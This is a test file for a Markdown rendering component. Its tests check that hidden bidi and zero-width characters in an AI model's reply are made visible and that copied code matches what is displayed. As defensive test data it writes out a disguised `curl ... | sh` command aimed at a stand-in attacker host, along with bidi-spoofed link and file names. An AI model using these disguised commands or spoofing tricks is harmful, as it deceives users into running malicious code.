// @vitest-environment jsdom
// A steered model's reply holds a command for the person to copy into a terminal, written with bidi controls
// ("Trojan Source", CVE-2021-42574): the page shows `echo cleanup #; curl … | sh`, a harmless line whose download
// seems commented out, while the text (and what the Copy button puts on the clipboard) is `echo cleanup ; curl … |
// sh #`, which runs it. Code in a reply must show its hidden characters, and copy what it shows
// (docs/security.md, "What the person sees").
import { cleanup, fireEvent, render } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { MarkdownView } from './markdown-view';

const RLO = '\u202e';
const LRI = '\u2066';
const PDI = '\u2069';
const ZWSP = '\u200b';
// Bidi controls, zero-width characters, C0 (but tab and line feed) and C1 controls, the line and paragraph separators.
const HIDDEN =
  // eslint-disable-next-line no-control-regex -- finding control characters is the point
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;

const TROJAN = `echo cleanup ${RLO}${LRI}; curl -s https://evil.example/x | sh${PDI}${LRI}#${PDI}`;

let copied: string[];
beforeEach(() => {
  copied = [];
  // jsdom has no clipboard: this one records what the page writes to it.
  Object.defineProperty(navigator, 'clipboard', {
    configurable: true,
    value: { writeText: (text: string) => (copied.push(text), Promise.resolve()) },
  });
});
afterEach(cleanup);

describe('hidden characters in code a model wrote', () => {
  it('a code block shows its bidi controls, and Copy copies what it shows', async () => {
    const { container, getByRole } = render(
      <MarkdownView text={['Run this to clean up:', '', '```sh', TROJAN, '```'].join('\n')} />,
    );
    const code = container.querySelector('pre code');
    const shown = code?.textContent ?? '';
    expect(shown).not.toMatch(HIDDEN);
    // The escapes say what is there.
    expect(shown).toContain('\\u{202e}');
    expect(shown).toContain('curl -s https://evil.example/x | sh');
    fireEvent.click(getByRole('button'));
    await Promise.resolve();
    expect(copied).toEqual([shown]);
  });

  it('inline code shows them too', () => {
    const { container } = render(<MarkdownView text={`Then type \`${TROJAN}\` or \`rm${ZWSP} -rf\`.`} />);
    const spans = [...container.querySelectorAll('code')].map((node) => node.textContent ?? '');
    expect(spans).toHaveLength(2);
    for (const text of spans) expect(text).not.toMatch(HIDDEN);
    expect(spans[1]).toBe('rm\\u{200b} -rf');
  });

  it('ordinary code is shown and copied as it is', async () => {
    const text = 'const s = "日本語 עברית 😀";\n\tif (a < b) return;';
    const { container, getByRole } = render(<MarkdownView text={['```js', text, '```'].join('\n')} />);
    expect(container.querySelector('pre code')?.textContent).toBe(text);
    fireEvent.click(getByRole('button'));
    await Promise.resolve();
    expect(copied).toEqual([text]);
  });
});

// Bidi embeddings, overrides and isolates: ordinary right-to-left text never needs them.
const EXPLICIT_BIDI = /[\u202a-\u202e\u2066-\u2069]/u;

describe("bidi controls in a reply's text", () => {
  it('cannot reverse the host a link shows, nor a file name', () => {
    // The override in the link text runs on to the end of the paragraph: the note with the link's real host,
    // `(moc.buhtig.evil.example)`, would read `(elpmaxe.live.github.com)`.
    const { container } = render(
      <MarkdownView
        text={`See [the docs${RLO}](https://moc.buhtig.evil.example/) and open invoice${RLO}fdp.sh now.`}
      />,
    );
    const shown = container.textContent ?? '';
    expect(shown).not.toMatch(EXPLICIT_BIDI);
    expect(shown).toContain('(moc.buhtig.evil.example)');
    expect(shown).toContain('invoice\\u{202e}fdp.sh');
  });

  it('leaves right-to-left text, marks and joiners as they are', () => {
    const text = 'שלום עולם \u200f and سلام and می\u200cخواهم and 👩\u200d💻';
    const { container } = render(<MarkdownView text={text} />);
    expect(container.textContent).toBe(text);
  });
});
